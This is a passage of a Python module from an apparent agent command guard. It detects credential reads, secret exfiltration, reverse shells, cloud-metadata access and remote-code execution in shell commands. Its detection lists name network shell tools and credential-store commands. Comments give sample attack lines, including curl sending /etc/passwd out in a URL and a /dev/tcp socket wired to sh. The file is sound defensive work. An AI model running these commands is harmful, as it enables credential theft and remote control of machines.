"""credential_access, exfiltration and remote_code: secrets read, data sent out, code pulled in.

Data flow decides the severity: reading `.env` is `ask`; the same read feeding `curl`/`nc` through a
pipe or a `$(...)` is exfiltration and `block`. Output of a download or a decoder reaching a shell or
interpreter is remote code and `block`.
"""

from __future__ import annotations

import posixpath
from collections.abc import Iterator

import re2

from railguard.detect.net import classify_host, extract_urls, looks_like_host, parse_url
from railguard.detect.paths import secret_path_kind
from railguard.detect.shell._flow import (
    basename,
    consumer_closure,
    is_decoder,
    is_fetcher,
    reaches,
    reads_script_from_stdin,
    upstream_closure,
)
from railguard.detect.shell._model import BLOCK_SECRET_KINDS, ShellFinding
from railguard.detect.shell._syntax import Exec, Word
from railguard.detect.shell._unwrap import INTERPRETERS, SHELLS
from railguard.detect.shell._view import CommandView, Ctx, classify_target, finding

_READERS = frozenset(
    {
        "cat",
        "tac",
        "less",
        "more",
        "head",
        "tail",
        "bat",
        "batcat",
        "nl",
        "strings",
        "xxd",
        "od",
        "hexdump",
        "base64",
        "base32",
        "grep",
        "egrep",
        "fgrep",
        "rg",
        "ag",
        "awk",
        "gawk",
        "sed",
        "cut",
        "sort",
        "uniq",
        "jq",
        "yq",
        "cp",
        "scp",
        "rsync",
        "tar",
        "zip",
        "7z",
        "gzip",
        "openssl",
        "gpg",
        "vi",
        "vim",
        "nano",
        "emacs",
        "view",
        "pr",
        "fold",
        "paste",
        "column",
        "dd",
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "sqlite3",
        "python",
        "python3",
        "perl",
        "ruby",
        "node",
        "iconv",
        "rev",
        "tr",
        "diff",
        "cmp",
        "type",
        "get-content",
        "mail",
        "zcat",
        "split",
        "git",
        "aws",
        "gsutil",
        "rclone",
        "s3cmd",
    }
)
_HARMLESS_KINDS = frozenset({"ssh_known_hosts", "ssh_authorized_keys", "ssh_config", "shell_history"})
_NETWORK_TOOLS = frozenset(
    {
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "ssh",
        "scp",
        "sftp",
        "ftp",
        "tftp",
        "rsync",
        "mail",
        "mailx",
        "sendmail",
        "mutt",
        "http",
        "https",
        "xh",
        "gsutil",
        "rclone",
        "openssl",
        "s3cmd",
        "lftp",
        "smbclient",
        "aws",
        "gcloud",
        "az",
        "gh",
        "curlie",
        "websocat",
        "cryptcat",
        "nping",
        "dig",
        "ping",
        "nslookup",
        "host",
    }
)
_NC = frozenset({"nc", "ncat", "netcat", "telnet", "socat", "cryptcat", "websocat", "openssl"})
_ENV_DUMPERS = frozenset({"printenv", "env", "set", "export", "declare", "compgen"})
# (tool, subcommand) -> a later word that must appear too (None: the subcommand alone reads secrets).
_CREDENTIAL_TOOLS: dict[tuple[str, str], str | None] = {
    ("security", "find-generic-password"): None, ("security", "find-internet-password"): None,
    ("security", "dump-keychain"): None, ("secret-tool", "lookup"): None, ("gh", "auth"): "token",
    ("gcloud", "auth"): "print-access-token|print-identity-token|application-default", ("az", "account"): "get-access-token", ("vault", "read"): None,
    ("pass", "show"): None, ("op", "read"): None, ("git", "credential"): "fill", ("kubectl", "config"): "--raw",
    ("aws", "configure"): "get|export-credentials", ("aws", "sts"): "get-session-token",
    ("vault", "kv"): "get", ("doppler", "secrets"): None, ("heroku", "config"): None, ("op", "item"): "get",
    ("az", "keyvault"): "show", ("gcloud", "secrets"): "access", ("chamber", "read"): None, ("heroku", "auth:token"): None, ("doctl", "auth"): "token",
    ("keyring", "get"): None, ("bw", "get"): None, ("lpass", "show"): None,
    ("aws", "secretsmanager"): "get-secret-value", ("aws", "ssm"): "--with-decryption",
    # secrets platforms and encrypted secret files printed in clear
    ("sops", "-d"): None, ("sops", "--decrypt"): None, ("infisical", "export"): None, ("infisical", "secrets"): None,
    ("bw", "export"): None, ("bw", "list"): "items", ("auth0", "apps"): "--reveal-secrets|-r",
}  # fmt: skip


# Commands that take key paths without revealing the key (or are judged by their own rules).
_KEY_CONSUMERS = frozenset({
    "ssh", "sftp", "ssh-add", "ssh-keygen", "ssh-copy-id", "ssh-keyscan", "chmod", "chown", "chgrp", "ls", "stat",
    "test", "[", "[[", "file", "touch", "mkdir", "rm", "shred", "unlink", "sha256sum", "sha1sum", "md5sum", "wc",
    "git", "echo", "printf", "find", "du", "realpath", "readlink", "dirname", "basename", "mv", "ln", "install",
    "rsync", "scp", "lsattr", "chattr", "getfacl", "setfacl", "keychain", "openssl", "gpg", "gpg2", "age", "sops",
    "curl", "wget", "nc", "ncat", "socat", "mail", "docker", "kubectl", "ansible", "ansible-playbook", "",
})  # fmt: skip


def _credential_tool(view: CommandView) -> bool:
    if not view.args:
        return False
    if view.name in ("gpg", "gpg2") and view.has("--export-secret-keys", "--export-secret-subkeys"):
        return True
    if view.name in ("kubectl", "oc") and view.args[0].text == "get":
        # `kubectl get secret X -o yaml|json|jsonpath=...` prints the secret's data
        shown = any(w.text.startswith(("secret", "secrets")) for w in view.args[1:3])
        return shown and any(w.text.startswith(("-o", "--output")) for w in view.args)
    key = (view.name, view.args[0].text)
    if key not in _CREDENTIAL_TOOLS:
        return False
    needed = _CREDENTIAL_TOOLS[key]
    return needed is None or any(w.text in needed.split("|") for w in view.args[1:])


_SECRET_VAR = re2.compile(r"\$\{?[A-Za-z0-9_]*(?:KEY|SECRET|TOKEN|PASSW|CRED|PRIVATE)[A-Za-z0-9_]*")


# Variables that conventionally point at a credentials file.
_SECRET_FILE_VARS = {"KUBECONFIG": "kubeconfig", "AWS_SHARED_CREDENTIALS_FILE": "aws_credentials",
                     "GOOGLE_APPLICATION_CREDENTIALS": "gcloud_credentials", "DOCKER_CONFIG": "docker_config",
                     "NETRC": "netrc", "PGPASSFILE": "pgpass", "SSH_KEY": "ssh_key", "SSH_KEY_PATH": "ssh_key"}  # fmt: skip


# Key and certificate options that a tool uses to authenticate or verify a connection, or to sign: the
# key stays on the machine (TLS client auth sends a signature and the public certificate), so naming a
# key file there is a use of the key by design, not a read of its bytes. Per tool; `None`: every option.
_KEY_USE_OPTIONS: dict[str, tuple[str, ...]] = {
    "curl": ("--cert", "-E", "--key", "--cacert", "--capath", "--crlfile", "--pinnedpubkey", "--proxy-cert",
             "--proxy-key", "--proxy-cacert", "--proxy-capath", "--proxy-crlfile"),
    "wget": ("--certificate", "--private-key", "--ca-certificate", "--ca-directory", "--crl-file"),
    "git": ("-c",), "gpg": ("--import", "--recv-keys", "--fetch-keys", "--verify", "--keyring"),
}  # fmt: skip
# openssl subcommands that use a key or certificate to produce something else (a certificate, a CSR, a
# signature, a verification, a TLS session); those that print or convert key material (rsa, pkey, ec,
# pkcs8, pkcs12, enc, base64) are reads.
_OPENSSL_KEY_USE = frozenset({"x509", "req", "verify", "s_client", "s_server", "s_time", "cmp", "ca", "crl", "crl2pkcs7", "pkcs7",
                              "dgst", "cms", "smime", "ocsp", "ts", "spkac", "sess_id", "pkeyutl", "rsautl"})  # fmt: skip
# Certificate installers, keyring managers, signing tools and disk-encryption tools (a key file unlocks a
# volume): handing them a key file is their job.
_KEY_TOOLS = frozenset({"certutil", "keytool", "update-ca-certificates", "update-ca-trust", "trust", "mkcert",
                        "certbot", "step", "cfssl", "apt-key", "rpm", "rpmkeys", "gpgv", "signify", "minisign",
                        "cosign", "osslsigncode", "codesign", "jarsigner", "apksigner", "sbsign", "kubeadm",
                        "cryptsetup", "veracrypt", "systemd-cryptenroll"})  # fmt: skip
# The only openssl subcommands that open a connection; the others work on local files.
_OPENSSL_CONNECTS = frozenset({"s_client", "s_server", "s_time", "ocsp"})


# Options any ssh-based tool takes for the key it authenticates with, and the image tools' layer keys
# (`skopeo copy --decryption-key k.pem`): the key is used, not read out.
_IDENTITY_OPTIONS = ("--identity", "--identity-file", "--ssh-key", "--ssh-key-file", "--private-key",
                     "--private-key-file", "--key-file", "--ssh-identity", "--decryption-key",
                     "--encryption-key")  # fmt: skip


# A dotted setting name (`taskd.key`, `http.sslKey`): `TOOL config [set] NAME VALUE` stores VALUE as text.
_SETTING_NAME = re2.compile(r"^[A-Za-z][\w-]*(?:\.[\w-]+)+$")


def _config_setting_values(view: CommandView) -> set[str]:
    """`task config taskd.key ~/.task/me.key.pem`: the setting records the key's path, which the tool opens
    when it authenticates, as for an identity option; nothing is read out now. Keys only: a setting that
    names the shadow file or a credentials store still stops."""
    texts = [w.text for w in view.operands]
    start = 2 if texts[:2] == ["config", "set"] else 1 if texts[:1] == ["config"] else 0
    if not start or len(texts) <= start + 1 or not _SETTING_NAME.match(texts[start]):
        return set()
    values = {t for t in texts[start + 1 :] if secret_path_kind(t) in ("private_key", "ssh_key")}
    return {texts[start], *values} if values else {texts[start]}  # the name (`taskd.key`) is no file


def _uses_keys(view: CommandView) -> bool:
    """The whole command uses its key and certificate arguments rather than reading them out."""
    if view.name == "openssl":
        return bool(view.operands) and view.operands[0].text in _OPENSSL_KEY_USE
    return view.name in _KEY_TOOLS or (view.name in ("gpg", "gpg2") and view.has(*_KEY_USE_OPTIONS["gpg"]))


# Searchers whose first operand is the pattern unless an option gives it, and jq (its filter opens no file).
_PATTERN_FIRST: dict[str, tuple[str, ...]] = {
    name: ("-e", "--regexp", "-f", "--file") for name in ("grep", "egrep", "fgrep", "rg", "ag", "ack")
}
_PATTERN_FIRST["jq"] = ("-f", "--from-file")


def _read_operands(view: CommandView) -> list[Word]:
    """The operands a reader opens: `grep shadow /etc/nsswitch.conf` searches for the word `shadow`."""
    pattern_options = _PATTERN_FIRST.get(view.name)
    if pattern_options is None or view.has(*pattern_options):
        return view.operands
    return view.operands[1:]


def _openssl_prints_key(view: CommandView) -> bool:
    """An openssl converter (`rsa`, `pkey`, `pkcs12`, `base64` ...) writes the key it reads to stdout, into
    the agent's context, unless it writes a file (`-out`), derives the public half (`-pubout`) or prints
    nothing of it (`-noout` without `-text`)."""
    texts = {w.text for w in view.args}  # single-dash long options: `-noout` is no `-n -o ...` cluster
    if view.value("-out") is not None or "-pubout" in texts:
        return False
    return "-noout" not in texts or "-text" in texts


def _key_option_values(view: CommandView) -> set[str]:
    return set(view.values(*_KEY_USE_OPTIONS.get(view.name, ())))


def _kind(word: Word, ctx: Ctx) -> tuple[str, str] | None:
    if word.dynamic:
        name = word.text.strip("${}").split("/", 1)[0]
        if name in _SECRET_FILE_VARS:
            return word.text, _SECRET_FILE_VARS[name]
    scheme, sep, rest = word.text.partition("://")
    if sep and scheme.isalnum():
        if scheme.lower() != "file":
            return None  # a URL names a remote resource (`--fetch-keys https://.../signing.key`), not a file here
        word = Word(rest, word.dynamic, word.glob)
    target = classify_target(word, ctx)
    kind = secret_path_kind(target.path) or secret_path_kind(word.text)
    return (target.path, kind) if kind else None


def secret_reads(view: CommandView, ctx: Ctx) -> list[tuple[str, str]]:
    """(path, kind) for each secret-bearing file this command reads (memoized on the view)."""
    if view.secret_reads is None:
        view.secret_reads = _secret_reads(view, ctx)
    return view.secret_reads


def _secret_reads(view: CommandView, ctx: Ctx) -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    if _uses_keys(view):
        pass  # judged by what it produces (its own rules), not as a read of the key
    elif view.name in _READERS or view.name.startswith("python"):
        # copy tools read their sources, not their destination (`cp .env.example .env`)
        sources = view.operands[:-1] if view.name in ("cp", "scp", "rsync") else _read_operands(view)
        key_values = _key_option_values(view) if view.name in _KEY_USE_OPTIONS else set()
        for word in sources:
            hit = _kind(word, ctx) if word.text not in key_values else None
            if hit:
                out.append(hit)
        for value in view.values("-in", "-inkey", "--input", "-key"):  # openssl/gpg read their key inputs
            hit = _kind(Word(value), ctx)
            if hit:
                out.append(hit)
        for word in view.args:  # `-d @~/.aws/credentials`, `--post-file=.env`, `if=~/.ssh/id_rsa`
            for prefix in ("@", "if=", "--post-file=", "--body-file=", "--upload-file="):
                if prefix in word.text and not word.text.startswith("-" + prefix):
                    tail = word.text.split(prefix, 1)[1]
                    hit = _kind(Word(tail.split(";", 1)[0], word.dynamic), ctx) if tail else None
                    if hit:
                        out.append(hit)
    elif view.name not in _KEY_CONSUMERS:
        # A tool we do not know, handed a private key or the shadow file, may read and use it; the value of
        # an identity option (`podman system connection add --identity KEY`) is the key it logs in with.
        identities = set(view.values(*_IDENTITY_OPTIONS)) | _config_setting_values(view)
        for word in view.operands:
            hit = _kind(word, ctx) if word.text not in identities else None
            if hit and hit[1] in BLOCK_SECRET_KINDS and hit[1] != "ssh_dir":
                out.append(hit)
    for redirect in view.exec.redirects:
        if redirect.op in ("<", "<>") and redirect.target is not None:
            hit = _kind(redirect.target, ctx)
            if hit:
                out.append(hit)
    found = [(p, k) for p, k in dict.fromkeys(out) if k not in _HARMLESS_KINDS]
    if found and view.name == "openssl" and not _openssl_prints_key(view):
        # converted into a file the agent does not see: a use of the key, unless it copies a key that is
        # off limits (`~/.ssh/id_rsa`) out of its store
        found = [(p, k) for p, k in found if k in BLOCK_SECRET_KINDS and _zone(p, ctx) not in _OWN_ZONES]
    return found


_OWN_ZONES = ("workspace", "scratch", "workspace_root", "scratch_root")  # a glob read names its directory


def _zone(path: str, ctx: Ctx) -> str:
    return classify_target(Word(path), ctx).zone


def _is_secret_source(view: CommandView, ctx: Ctx) -> bool:
    if secret_reads(view, ctx):
        return True
    if view.name in _ENV_DUMPERS and not view.operands:
        return view.name not in ("export", "declare") or view.has("-p", "-x")
    return _credential_tool(view)


def check_credentials(view: CommandView, ctx: Ctx) -> Iterator[ShellFinding]:
    for path, kind in secret_reads(view, ctx):
        zone = classify_target(Word(path), ctx).zone
        severe = kind in BLOCK_SECRET_KINDS and zone not in _OWN_ZONES
        yield finding(
            "credential_access",
            f"read-{kind.replace('_', '-')}",
            "block" if severe else "ask",
            "critical" if severe else "high",
            f"{view.name} reads {kind} at {path}",
        )
    if view.name in ("echo", "printf", "printenv") and any(_SECRET_VAR.search(w.text) or (
        view.name == "printenv" and _SECRET_VAR.search("$" + w.text)) for w in view.args):  # fmt: skip
        yield finding("credential_access", "print-secret-variable", "ask", "medium",
                      f"{view.name} prints a secret-named variable")  # fmt: skip
    if _credential_tool(view):
        dump = view.name == "security" and view.args[0].text == "dump-keychain"
        yield finding(
            "credential_access",
            "credential-store-read",
            "block" if dump else "ask",
            "high",
            f"{view.name} {view.args[0].text} reads a credential store",
        )


# A cloud or forge CLI's access token sent only to that vendor's own API hosts (`curl -H "Authorization:
# Bearer $(gcloud auth print-access-token)" https://x.googleapis.com/...`) is the token's ordinary use: the
# credential read still asks, the request is judged as an API call.
_TOKEN_ISSUERS = {"gcloud": ("googleapis.com",), "gh": ("github.com",), "aws": ("amazonaws.com",),
                  "az": ("azure.com", "microsoft.com", "azure.net"), "doctl": ("digitalocean.com",)}  # fmt: skip
# options that send a request somewhere other than its URL's host, or accept any certificate for it
_REROUTING = ("--resolve", "--connect-to", "-x", "--proxy", "--preproxy", "--doh-url", "-k", "--insecure",
              "--no-check-certificate", "--verify=no")  # fmt: skip


def _token_to_its_issuer(name: str, sinks: list[Exec]) -> bool:
    suffixes = _TOKEN_ISSUERS.get(name)
    if not suffixes or any(w.text.startswith(_REROUTING) for sink in sinks for w in sink.words[1:]):
        return False
    hosts = [parse_url(d).hosts for sink in sinks for d in destinations(CommandView(sink))]
    names = [h.host.lower() for found in hosts for h in found]
    return (
        bool(names)
        and len(names) == sum(len(found) for found in hosts)
        and all(any(n == s or n.endswith("." + s) for s in suffixes) for n in names)
    )


def check_exfiltration(view: CommandView, ctx: Ctx) -> Iterator[ShellFinding]:
    exec_ = view.exec
    name = view.name
    if _sends(name, view.words) and secret_reads(view, ctx):
        path, kind = secret_reads(view, ctx)[0]
        yield finding(
            "exfiltration", "secret-to-network", "block", "critical", f"{name} sends {kind} at {path}"
        )
    elif _is_secret_source(view, ctx) and reaches(exec_, _is_network_tool, upstream=False):
        sinks = [c for c in consumer_closure(exec_) if _is_network_tool(c)]
        if sinks and not _token_to_its_issuer(name, sinks):
            yield finding(
                "exfiltration",
                "secret-to-network",
                "block",
                "critical",
                f"{name} output (secrets or environment) flows into {basename(sinks[0].words[0].text)}",
            )
    if _sends(name, view.words):
        yield from _substituted_file_sent(view, ctx)
    if name in ("curl", "wget", "http", "xh"):
        yield from _upload(view, ctx)
    if name in _NC or name in SHELLS or INTERPRETERS.get(name):
        yield from _reverse_shell(view)
    if name in ("scp", "rsync", "sftp", "rclone") and len(view.operands) > 1:
        destination = view.operands[-1].text
        if ":" in destination and not destination.startswith(("/", ".")):
            for source in view.operands[:-1]:
                target = classify_target(source, ctx)
                source_kind = secret_path_kind(target.path)
                if (source_kind and source_kind not in _HARMLESS_KINDS) or target.zone in (
                    "critical",
                    "secret_dir",
                ):
                    # a file list or include filter picks what goes: a human reads the list, no hard stop
                    listed = view.has(*_COPY_SELECTORS) and not source_kind
                    yield finding(
                        "exfiltration",
                        "copy-secrets-remote",
                        "ask" if listed else "block",
                        "high" if listed else "critical",
                        f"{name} copies {target.path} to a remote host",
                    )
    if _sends(name, view.words) and any(_SECRET_VAR.search(w.text) for w in _payload_words(view)):
        yield finding(
            "exfiltration",
            "secret-variable-to-network",
            "ask",
            "high",
            f"{name} sends a secret-named variable as data",
        )
    for redirect in exec_.redirects:
        socket_path = redirect.target.text if redirect.target is not None else ""
        if socket_path.startswith(("/dev/tcp/", "/dev/udp/")):
            shell = name in SHELLS or name in INTERPRETERS
            yield finding(
                "exfiltration",
                "reverse-shell" if shell else "dev-tcp",
                "block" if shell else "ask",
                "critical" if shell else "high",
                f"{name} redirected to {socket_path}",
            )


# Tools whose operands are all destinations (URLs, with or without a scheme) ...
_URL_OPERAND_TOOLS = frozenset({"curl", "wget", "aria2c", "lwp-download", "lwp-request", "GET", "HEAD", "POST",
                                "fetch", "curlie", "wget2", "httpx"})  # fmt: skip
# ... whose first operand is one (httpie-likes may take a method first; the rest are request items) ...
_HOST_FIRST_TOOLS = frozenset({"http", "https", "xh", "xhs", "nc", "ncat", "netcat", "telnet", "ssh", "sftp", "ftp",
                               "lftp", "tftp", "ping", "ping6", "nping", "traceroute", "tracepath", "mtr",
                               "websocat", "cryptcat", "smbclient"})  # fmt: skip
_HTTP_METHODS = frozenset({"GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"})
# ... or an option names the host (database clients) ...
_HOST_FLAG_TOOLS = frozenset({"redis-cli", "mysql", "psql", "pg_dump", "mongo", "mongosh", "mysqldump"})
# ... and options that send the traffic through another host (a proxy) or to a fixed address.
_PROXY_OPTIONS = ("-x", "--proxy", "--preproxy", "--connect-to", "-connect", "-e")


def destinations(view: CommandView) -> list[str]:
    """Where a command connects: every `scheme://` URL in its words, and for network tools the
    operands they read as a destination, with or without a scheme (`curl 169.254.169.254/latest/`,
    `wget metadata.google.internal/...`, `nc 10.0.0.5 80`, `ssh user@host`), in any IP notation.
    Memoized on the view (the metadata rule and the `urls` fact both ask)."""
    if view.destinations is None:
        view.destinations = _destinations(view)
    return view.destinations


def _destinations(view: CommandView) -> list[str]:
    # URLs inside a word too: inline code (`python3 -c "urlopen('http://...')"`), `--url=http://...`
    found = [url for w in view.args if "://" in w.text and not w.dynamic for url in _urls_in(w.text)]
    name = view.name
    operands = [w.text for w in view.operands if not w.dynamic]
    if name in _URL_OPERAND_TOOLS:
        found += [t for t in operands if looks_like_host(t)]
    elif name in _HOST_FIRST_TOOLS:
        rest = operands[1:] if operands[:1] and operands[0].upper() in _HTTP_METHODS else operands
        if rest and looks_like_host(rest[0]):
            found.append(rest[0])
    elif name in ("scp", "rsync") or (name == "git" and operands[:1] in (["clone"], ["fetch"], ["pull"])):
        found += [t for t in operands if ":" in t and not t.startswith(("/", ".")) and looks_like_host(t)]
    elif name == "socat":
        for t in operands:  # `TCP:host:port`, `OPENSSL:host:port`
            kind, _, address = t.partition(":")
            if kind.upper().startswith(("TCP", "OPENSSL", "UDP", "SOCKS")) and looks_like_host(address):
                found.append(address)
    elif name in _HOST_FLAG_TOOLS:
        found += [v for v in view.values("-h", "--host") if looks_like_host(v)]
    proxied = any(w.text.startswith("-") and ("x" in w.text or "proxy" in w.text or "conn" in w.text
                  or w.text.endswith("e")) for w in view.args)  # fmt: skip
    if proxied and (name in _URL_OPERAND_TOOLS or name in _HOST_FIRST_TOOLS or name == "openssl"):
        found += [v for v in view.values(*_PROXY_OPTIONS) if looks_like_host(v)]
    return list(dict.fromkeys(found))


def _urls_in(text: str) -> list[str]:
    """A word that is one URL is taken whole (most are); a longer text is searched."""
    if text[:1].isalpha() and not any(c in text for c in " \t\n'\"()<>`{}"):
        return [text.rstrip(".,;:!?")]
    return extract_urls(text)


# Tools that only print, search or store text: a URL among their words is data, not a request.
_TEXT_TOOLS = frozenset({"echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk", "cat",
                         "less", "more", "head", "tail", "jq", "yq", "sort", "uniq", "wc", "tee", "diff", "cut", "tr",
                         "column", "nl", "fold", "comm", "paste", "strings", "touch", "mkdir", "ls", "find", "test",
                         "[", "[[", "true", "false", ":", "export", "declare", "local", "readonly", "read"})  # fmt: skip
_GIT_TEXT = frozenset({"commit", "grep", "log", "show", "tag", "notes", "config"})


def check_metadata(view: CommandView, ctx: Ctx) -> Iterator[ShellFinding]:
    """The cloud metadata endpoint hands out the machine's credentials: reaching it from a shell is
    credential theft, whichever notation or scheme-less spelling names it. Commands that only handle
    text (`grep -r 169.254.169.254`, `echo http://169.254.169.254`) do not reach it."""
    if view.name in _TEXT_TOOLS or (view.name == "git" and view.args[:1] and view.args[0].text in _GIT_TEXT):
        return
    for destination in destinations(view):
        hosts = parse_url(destination).hosts
        if any(h.metadata for h in hosts):
            yield finding("credential_access", "cloud-metadata", "block", "critical",
                          f"{view.name} reaches the cloud metadata endpoint ({hosts[0].host})")  # fmt: skip
            return


def _payload_words(view: CommandView) -> list[Word]:
    if view.name not in ("curl", "wget", "http", "xh"):
        return list(view.args)
    out: list[Word] = []
    texts = [w.text for w in view.args]
    for i, text in enumerate(texts):
        if text in (
            "-d",
            "--data",
            "--data-binary",
            "--data-raw",
            "--data-urlencode",
            "-F",
            "--form",
            "--json",
            "--post-data",
        ) and i + 1 < len(view.args):
            out.append(view.args[i + 1])
        elif text.startswith(("--data=", "--post-data=")) or ("://" in text and "?" in text):
            out.append(view.args[i])
    return out


_BODY_OPTIONS = ("-d", "--data", "--data-binary", "--data-urlencode", "--data-raw", "--json", "-F", "--form",
                 "--form-string", "-T", "--upload-file", "--post-file", "--body-file")  # fmt: skip


def _to_this_machine(view: CommandView) -> bool:
    """Every address the request goes to is loopback (`curl -F f=@x http://localhost:8000/upload`): the
    file never leaves the machine. Any other operand, a run-time word, a proxy elsewhere or a name
    pinned to another address (`--resolve`, `--connect-to`), a URL given as an option or a config file
    (`--url`, `-K`) and it may."""
    if view.has("--resolve", "--connect-to", "--url", "-K", "--config") or any(w.dynamic for w in view.args):
        return False
    bodies = set(view.values(*_BODY_OPTIONS))
    targets = [w.text for w in view.operands if w.text not in bodies] + destinations(view)
    return bool(targets) and all(classify_host(_authority(t)).loopback for t in targets)


def _authority(target: str) -> str:
    return target.split("://", 1)[-1].split("/", 1)[0].split("?", 1)[0]


def _upload(view: CommandView, ctx: Ctx) -> Iterator[ShellFinding]:
    files: list[str] = []
    for value in view.values("-d", "--data", "--data-binary", "--data-urlencode", "--json", "-F", "--form"):
        if "@" in value:
            files.append(value.split("@", 1)[1].split(";", 1)[0])
        elif value.split("=", 1)[-1].startswith("<"):
            files.append(value.split("<", 1)[1])
    files += view.values("-T", "--upload-file", "--post-file", "--body-file")
    for path in files:
        if path in ("-", ""):
            continue
        hit = _kind(Word(path), ctx)
        if hit and hit[1] not in _HARMLESS_KINDS:
            yield finding(
                "exfiltration",
                "upload-secret-file",
                "block",
                "critical",
                f"{view.name} uploads {hit[1]} at {hit[0]}",
            )
        elif not _to_this_machine(view):
            yield finding(
                "exfiltration", "upload-file", "ask", "medium", f"{view.name} uploads the file {path}"
            )


def _reverse_shell(view: CommandView) -> Iterator[ShellFinding]:
    name = view.name
    texts = [w.text.lower() for w in view.args]
    if name == "openssl":
        return  # no option of its runs a program (`-CAfile` is no `-e` cluster); pipes are judged on the shell
    if name in _NC:
        programs = view.values("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
        programs += [t.split(":", 1)[1] for t in texts if t.startswith(("exec:", "system:"))]
        programs += [t.split(",exec:", 1)[1] for t in texts if ",exec:" in t]
        if any(_runs_shell(p) for p in programs):
            yield finding(
                "exfiltration", "reverse-shell", "block", "critical", f"{name} attaches a shell to a socket"
            )
        elif programs:
            yield finding(
                "exfiltration", "socket-exec", "ask", "high", f"{name} runs a program for network peers"
            )
        return
    wired = reaches(view.exec, _is_socket_tool) or reaches(view.exec, _is_socket_tool, upstream=False)
    if (name in SHELLS or name in INTERPRETERS) and wired:
        yield finding(
            "exfiltration", "reverse-shell", "block", "critical", f"{name} is wired to a network socket"
        )


def _runs_shell(program: str) -> bool:
    words = program.replace("'", " ").replace('"', " ").replace(",", " ").split()
    return bool(words) and (
        basename(words[0]) in SHELLS or basename(words[0]) in INTERPRETERS or "cmd" in words[0]
    )


def check_remote_code(view: CommandView, ctx: Ctx) -> Iterator[ShellFinding]:
    exec_ = view.exec
    name = view.name
    runs_code = name in SHELLS or name in INTERPRETERS or name.rstrip("0123456789.") in INTERPRETERS
    reads_stdin = reads_script_from_stdin(exec_) or (
        name in ("source", ".")
        and any(w.text in ("/dev/stdin", "-", "/proc/self/fd/0") for w in view.operands)
    )
    if (runs_code or name in ("source", ".")) and reads_stdin:
        # decoded literals are analyzed as scripts too, but running decoded text stays a block
        if reaches(exec_, is_fetcher):
            yield finding(
                "remote_code",
                "pipe-download-to-shell",
                "block",
                "critical",
                f"a download is piped into {name}",
            )
        elif reaches(exec_, is_decoder):
            yield finding(
                "remote_code",
                "pipe-decoded-to-shell",
                "block",
                "critical",
                f"decoded data is piped into {name}",
            )
        elif exec_.upstream and exec_.stdin_text is None and reaches(exec_, _not_literal_producer):
            yield finding(
                "remote_code", "pipe-to-shell", "ask", "medium", f"{name} runs a script read from a pipe"
            )
    if runs_code or name in ("source", "."):
        for word in view.operands[:1] if name not in ("source", ".") else view.operands:
            if any(_fetches_or_decodes(sub) or reaches(sub, _fetches_or_decodes) for sub in word.subs):
                yield finding(
                    "remote_code",
                    "exec-process-substitution",
                    "block",
                    "critical",
                    f"{name} runs a script produced by a download",
                )


# Where a file read by a substitution inside a sender's arguments makes that send an exfiltration: the
# machine's own files (`/etc/passwd`, `/proc/...`) and the user's files outside the project.
_OUTSIDE_PROJECT = frozenset({"system", "critical", "secret_dir", "outside"})


def _substituted_file_sent(view: CommandView, ctx: Ctx) -> Iterator[ShellFinding]:
    """`curl "https://x/?d=$(cat /etc/passwd | base64)"`: a file's content rides in a URL, header or body
    the sender builds from a command substitution; secrets are judged by the flow rules already."""
    for word in view.args:
        for sub in word.subs:
            for inner in (sub, *upstream_closure(sub)):
                reader = CommandView(inner)
                if reader.name not in _READERS:
                    continue
                for operand in _read_operands(reader):
                    target = classify_target(operand, ctx)
                    if target.zone in _OUTSIDE_PROJECT:
                        yield finding(
                            "exfiltration",
                            "file-in-request",
                            "ask",
                            "high",
                            f"{view.name} sends the content of {target.path} (read by a substitution)",
                        )
                        return


_COPY_SELECTORS = ("--files-from", "--files-from-raw", "--include", "--include-from", "--filter-from")


# A tool printing its own shell-completion script (`hugo completion powershell`), and PowerShell's
# `Out-String` (it only joins the lines of what it is piped): running that output trusts only the tool.
_COMPLETION = frozenset({"completion", "completions"})
_PASS_THROUGH = frozenset({"echo", "printf", "Out-String", "out-string"})


def _not_literal_producer(exec_: Exec) -> bool:
    words = [w.text for w in exec_.words]
    if not words or basename(words[0]) in _PASS_THROUGH:
        return False
    return not (len(words) in (2, 3) and words[1] in _COMPLETION)


def _fetches_or_decodes(exec_: Exec) -> bool:
    return is_fetcher(exec_) or is_decoder(exec_)


def _is_network_tool(exec_: Exec) -> bool:
    return bool(exec_.words) and _sends(basename(exec_.words[0].text), exec_.words)


def _sends(name: str, words: list[Word]) -> bool:
    """The tool can send data over the network (openssl only through its connecting subcommands)."""
    if name != "openssl":
        return name in _NETWORK_TOOLS
    return len(words) > 1 and words[1].text in _OPENSSL_CONNECTS


def _is_socket_tool(exec_: Exec) -> bool:
    return bool(exec_.words) and basename(exec_.words[0].text) in _NC


def check_download_then_run(views: list[CommandView]) -> Iterator[ShellFinding]:
    """`curl -o x.sh URL && bash x.sh`: a file fetched earlier in the same command is executed."""
    downloaded: set[str] = set()
    for view in views:
        exec_ = view.exec
        if is_fetcher(exec_):
            for value in view.values("-o", "--output", "-O", "--output-document"):
                downloaded.add(posixpath.basename(value))
            if view.name == "wget" and not view.value("-O", "--output-document"):
                downloaded.update(
                    posixpath.basename(w.text.split("?")[0]) for w in view.operands if "://" in w.text
                )
            if view.name == "curl" and view.has("-O", "--remote-name"):
                downloaded.update(
                    posixpath.basename(w.text.split("?")[0]) for w in view.operands if "://" in w.text
                )
            continue
        downloaded.discard("")
        if not downloaded:
            continue
        run_names = [posixpath.basename(exec_.words[0].text)] if exec_.words else []
        if view.name in SHELLS or view.name in INTERPRETERS or view.name in ("source", "."):
            run_names += [posixpath.basename(w.text) for w in view.operands[:1]]
        if any(n in downloaded for n in run_names) and view.name not in ("chmod", "ls", "cat", "rm"):
            yield finding(
                "remote_code",
                "download-then-execute",
                "block",
                "critical",
                f"{view.name} executes a file downloaded in the same command",
            )


def check_socket_descriptors(views: list[CommandView]) -> Iterator[ShellFinding]:
    """`exec 3<>/dev/tcp/h/p; sh <&3 >&3`: a descriptor opened on a socket, later wired to a shell."""
    sockets = {
        r.fd or ("1" if ">" in r.op else "0")
        for view in views
        for r in view.exec.redirects
